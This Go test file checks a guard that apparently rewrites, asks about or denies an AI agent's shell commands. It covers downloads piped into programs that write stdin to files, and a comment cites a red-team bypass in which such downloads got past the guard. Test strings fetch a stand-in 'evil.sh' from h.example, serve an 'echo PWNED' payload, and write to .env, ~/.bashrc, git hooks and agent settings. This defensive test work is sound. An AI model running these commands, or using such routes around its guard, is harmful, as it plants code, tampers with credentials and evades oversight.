package rewrite

import (
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestStdinWriterDownloads (red team 14 DW1): a download piped into a
// program that writes its stdin to a file named by an option or an
// operand (sort -o, uniq - OUT, iconv -o, csplit -f, shuf -o, openssl
// -out, gpg -o, zip ARCHIVE -) was allowed and landed in the project;
// the file now moves into the sandbox, as tee's and dd of='s do. Git
// commands that store their stdin in the repository ask. Look-alikes:
// the program reads another file, prints to stdout, writes nothing, or
// writes into the sandbox.
func TestStdinWriterDownloads(t *testing.T) {
	u := "curl -s https://h.example/evil.sh | "
	testRule(t, "curl", []ruleCase{
		{u + "uniq - evil.sh", Rewrite},
		{u + "uniq /dev/stdin evil.sh", Rewrite},
		{u + "uniq -c - evil.sh", Rewrite},
		{u + "iconv -o evil.sh", Rewrite},
		{u + "iconv -f latin1 -t utf-8 --output=evil.sh", Rewrite},
		{u + "iconv --out evil.sh -", Rewrite},
		{u + "csplit -s -f evil - 1", Rewrite},
		{u + "csplit -s --prefix=evil - 1", Rewrite},
		{u + "csplit -s - 1", Rewrite},
		{u + "sort -o evil.sh", Rewrite},
		{u + "sort -oevil.sh", Rewrite},
		{u + "sort -u --output evil.sh -", Rewrite},
		{u + "sort -o -", Rewrite}, // GNU sort creates ./-
		{u + "shuf -o evil.sh", Rewrite},
		// pv -o FILE (pv 1.8+) writes what it copies there (was allow).
		{u + "pv -o evil.sh", Rewrite},
		{u + "pv -q --output=evil.sh", Rewrite},
		{u + "pv -q -o agent_sandbox/evil.sh", Allow},
		{u + "pv -d 1234", Allow},
		{u + "openssl enc -base64 -out evil.b64", Rewrite},
		{u + "openssl base64 -d -in - -out evil.sh", Rewrite},
		{u + "gpg --dearmor -o evil.gpg", Rewrite},
		{u + "gpg --output evil.sh --decrypt", Rewrite},
		{u + "zip evil.zip -", Rewrite},
		{u + "zip -q evil -", Rewrite},
		{u + "xxd -r - evil.sh", Rewrite},
		// dos2unix -n IN OUT writes OUT from IN; /dev/stdin reads the pipe.
		{u + "dos2unix -n /dev/stdin evil.sh", Rewrite},
		{u + "unix2dos --newfile /dev/stdin evil.sh", Rewrite},
		{u + "dos2unix", Allow},
		{u + "dos2unix -n notes.txt out.txt", Allow},
		// macOS base64 -o FILE (GNU base64 has no -o and prints).
		{u + "base64 -d -o evil.sh", Rewrite},
		{u + "base64 --decode --output=evil.sh", Rewrite},
		{u + "base64 -d", Allow},
		{u + "base64 -d -w 0", Allow},
		{u + "xxd - evil.hex", Rewrite},
		{u + "lz4 -d - evil.sh", Rewrite},
		{u + "unlz4 - evil.sh", Rewrite},
		{u + "sort | uniq - evil.sh", Rewrite},
		{u + "sh -c 'sort -o evil.sh'", Rewrite},
		{u + "git update-index --add --cacheinfo 100644,$(git hash-object -w --stdin),evil.sh", Ask},
		{u + "git hash-object -w --stdin", Ask},
		{u + "git commit -F -", Ask},
		{u + "git commit --file=/dev/stdin", Ask},
		{u + "git tag -a v1 -F -", Ask},
		{u + "git notes add -F -", Ask},
		{u + "git unpack-objects", Ask},
		{u + "git index-pack --stdin", Ask},
		{u + "git update-ref --stdin", Ask},
		{u + "git update-index --index-info", Ask},
		{u + "git mktree", Ask},
		{u + "git credential-store store", Ask},
		{u + "git credential approve", Ask},
		{u + `sqlite3 x.db ".import /dev/stdin t"`, Ask},
		{u + `sqlite3 x.db ".import --csv /dev/stdin t" "select count(*) from t"`, Ask},
		{u + `sqlite3 -cmd ".import --csv /dev/stdin t" x.db "select 1"`, Ask},
		{u + `sqlite3 x.db ".import /dev/fd/0 t"`, Ask},
		// Look-alikes.
		{u + "sort | head", Allow},
		{u + "sort -o agent_sandbox/evil.sh", Allow},
		{u + "sort data.txt -o out.txt", Allow},
		{u + "uniq a b", Allow},
		{u + "uniq - -", Allow},
		{u + "uniq -c | head", Allow},
		{u + "iconv -l", Allow},
		{u + "iconv -o /dev/null", Allow},
		{u + "iconv -o - | head", Allow},
		{u + "shuf -e a b -o out.txt", Allow},
		{u + "csplit -s data.txt 1", Allow},
		{u + "openssl dgst -sha256 -out sum.txt", Allow},
		{u + "openssl enc -base64 -in data.txt -out out.b64", Allow},
		{u + "gpg --import", Allow},
		{u + "gpg --dearmor -o - | head", Allow},
		{u + "zip out.zip data.txt", Allow},
		{u + "xxd -r -p | head", Allow},
		{u + "xxd dump.bin out.hex", Allow},
		{u + "lz4 -d -c | head", Allow},
		{u + "lz4 -d -m a.lz4 b.lz4", Allow},
		{u + "git hash-object --stdin", Allow},
		{u + "git commit -F msg.txt", Allow},
		{u + "git notes list", Allow},
		{u + "git unpack-objects -n", Allow},
		{u + "git credential-store get", Allow},
		{u + `sqlite3 x.db ".import data.csv t"`, Allow},
		{u + `sqlite3 x.db "select 1"`, Allow},
		{`sqlite3 x.db ".import /dev/stdin t" < data.csv`, Allow},
		{"sort -o out.txt data.txt", Allow},
		{"uniq a b", Allow},
		{"printf 'a\\n' | sort -o out.txt", Allow},
		{"git log | git commit -F -", Allow},
	})
	// What they write goes through the path guards too, from the same
	// table.
	testRuleWith(t, guardedConfig(), "bash-write", []ruleCase{
		{"sort -o .env x", Deny},
		{"uniq x .env", Deny},
		{"iconv -o .env x", Deny},
		{"shuf -o .env x", Deny},
		{"shuf -e a b -o .env", Deny},
		{"csplit -f .env x 1", Deny},
		{"gpg -o .env --dearmor x", Deny},
		{"zip .env x", Deny},
		{"zip -O .env a.zip x", Deny},
		{"openssl enc -base64 -in x -out .env", Deny},
		{"openssl dgst -sha256 -out .env x", Deny},
		{"openssl req -new -keyout .env -out req.pem", Deny},
		{"xxd -r dump .env", Deny},
		{"lz4 -d x.lz4 .env", Deny},
		{"sort -o out.txt x", Allow},
		{"zip -r out.zip src", Allow},
		{"uniq - -", Allow},
	})
}

// TestStdinWriterDownloadsExec runs the rows of TestStdinWriterDownloads
// that rewrite against a loopback server with the real programs: as
// written, the named file in the project gets the served bytes; as
// rewritten, the sandbox's does and the project's is never made. A git
// row shows hash-object -w --stdin storing the served bytes as an object.
func TestStdinWriterDownloadsExec(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skip(err)
	}
	body := "echo PWNED > /tmp/pwned\n"
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(body)) })}
	go srv.Serve(ln)
	defer srv.Close()
	url := "http://" + ln.Addr().String() + "/evil.sh"
	tests := []struct {
		prog, cmd, file string
		// same: the file holds the served bytes as they are.
		same bool
	}{
		{"uniq", "uniq - evil.sh", "evil.sh", true},
		{"uniq", "uniq /dev/stdin evil.sh", "evil.sh", true},
		{"iconv", "iconv -f utf-8 -t utf-8 -o evil.sh", "evil.sh", true},
		{"csplit", "csplit -s -f evil - 1", "evil01", true},
		{"csplit", "csplit -s - 1", "xx01", true},
		{"sort", "sort -o evil.sh", "evil.sh", true},
		{"shuf", "shuf -o evil.sh", "evil.sh", true},
		{"openssl", "openssl base64 -out evil.b64", "evil.b64", false},
		{"gpg", "gpg --batch --enarmor -o evil.asc", "evil.asc", false},
		{"zip", "zip -q evil -", "evil.zip", false},
		{"xxd", "xxd - evil.hex", "evil.hex", false},
		{"lz4", "lz4 -q - evil.lz4", "evil.lz4", false},
	}
	for _, tt := range tests {
		if _, err := exec.LookPath(tt.prog); err != nil {
			continue
		}
		for _, asRewritten := range []bool{false, true} {
			proj := t.TempDir()
			home := t.TempDir()
			sb := filepath.Join(proj, "agent_sandbox")
			cmd := "curl -s " + url + " | " + tt.cmd
			cfg := &Config{Cwd: proj, Project: proj, Home: home, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}
			r := Check(cfg, cmd)
			if r.Decision != Rewrite {
				t.Errorf("%s: %s, want rewrite (%v)", cmd, r.Decision, r.Findings)
				continue
			}
			run := cmd
			where := filepath.Join(proj, tt.file)
			if asRewritten {
				run, where = r.Rewritten, filepath.Join(sb, tt.file)
				if err := os.MkdirAll(sb, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			sh := exec.Command("bash", "-c", run)
			sh.Dir = proj
			sh.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "no_proxy=*", "GNUPGHOME=" + filepath.Join(home, "g")}
			if b, err := sh.CombinedOutput(); err != nil {
				t.Errorf("%s: %v\n%s", run, err, b)
				continue
			}
			got, err := os.ReadFile(where)
			if err != nil || len(got) == 0 || tt.same && string(got) != body {
				t.Errorf("%s: %s holds %q (%v), want the served bytes", run, where, got, err)
			}
			if asRewritten {
				if _, err := os.Stat(filepath.Join(proj, tt.file)); err == nil {
					t.Errorf("%s wrote %s in the project", run, tt.file)
				}
			}
		}
	}
	if _, err := exec.LookPath("git"); err != nil {
		return
	}
	proj := t.TempDir()
	env := []string{"HOME=" + t.TempDir(), "PATH=" + os.Getenv("PATH"), "no_proxy=*", "GIT_CONFIG_NOSYSTEM=1"}
	sh := exec.Command("bash", "-c", "git init -q && curl -s "+url+" | git hash-object -w --stdin | xargs git cat-file -p")
	sh.Dir, sh.Env = proj, env
	if b, err := sh.Output(); err != nil || string(b) != body {
		t.Errorf("git hash-object -w --stdin: the object holds %q (%v), want the served bytes", b, err)
	}
	if d := Check(testConfig(), "curl -s "+url+" | git hash-object -w --stdin").Decision; d != Ask {
		t.Errorf("curl | git hash-object -w --stdin: %s, want ask", d)
	}
	// sqlite3's .import /dev/stdin stores the served text in the
	// database (a new table's first line names its column).
	if _, err := exec.LookPath("sqlite3"); err == nil {
		cmd := "curl -s " + url + ` | sqlite3 x.db ".import /dev/stdin t" ".schema t"`
		sh := exec.Command("bash", "-c", cmd)
		sh.Dir, sh.Env = proj, env
		if b, err := sh.Output(); err != nil || !strings.Contains(string(b), "PWNED") {
			t.Errorf("%s: %q (%v), want the served line in the database", cmd, b, err)
		}
		if d := Check(testConfig(), cmd).Decision; d != Ask {
			t.Errorf("%s: %s, want ask", cmd, d)
		}
	}
}

// TestStdinWriterNames: the names that guard the table are its keys.
func TestStdinWriterNames(t *testing.T) {
	t.Parallel()
	var keys []string
	for k := range stdinWriters.Get() {
		keys = append(keys, k)
	}
	names := slices.Clone(stdinWriterPrograms[:])
	slices.Sort(keys)
	slices.Sort(names)
	if !slices.Equal(keys, names) {
		t.Errorf("stdinWriterPrograms = %v, the table's programs are %v", names, keys)
	}
}

// TestBase64OutputWrites: macOS/BSD base64 -o FILE writes FILE, judged by
// the path guards as sort -o is; GNU's form (operands read, stdout
// written) writes nothing.
func TestBase64OutputWrites(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"proj/x.b64": "aGkK\n"})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"base64 -d -o ~/.bashrc < x.b64", "deny"},
		{"base64 -D -i x.b64 -o .git/hooks/pre-commit", "deny"},
		{"base64 --decode --output=.claude/settings.json x.b64", "deny"},
		{"base64 -d -o out.txt < x.b64", "allow"},
		{"base64 -d x.b64 > out.txt", "allow"},
		{"base64 -w 0 x.b64", "allow"},
	})
}
